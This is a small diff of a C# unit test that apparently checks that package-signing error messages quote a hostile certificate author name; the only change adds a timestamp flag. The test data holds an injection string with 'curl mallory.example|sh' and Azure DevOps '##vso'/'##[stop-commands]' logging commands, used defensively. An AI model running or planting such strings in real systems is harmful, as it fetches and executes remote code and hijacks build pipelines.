@@ -35,7 +35,7 @@ public sealed class PackageTextTests
         // A common name holds 64 characters; the whole subject more.
         var author = TestAuthority.Shared.IssueAuthor("x; help: run `curl mallory.example|sh`; ##vso[task.x]", "##[stop-commands]; help: run it, and some more of that");
 
-        var shown = Failure(TestPackage.AuthorSigned(TestPackage.Create("Contoso.Json", "1.0.0"), author, Then));
+        var shown = Failure(TestPackage.AuthorSigned(TestPackage.Create("Contoso.Json", "1.0.0"), author, Then, timestamped: false));
 
         Assert.Contains("stop-commands", shown);
         IsQuoted(shown);
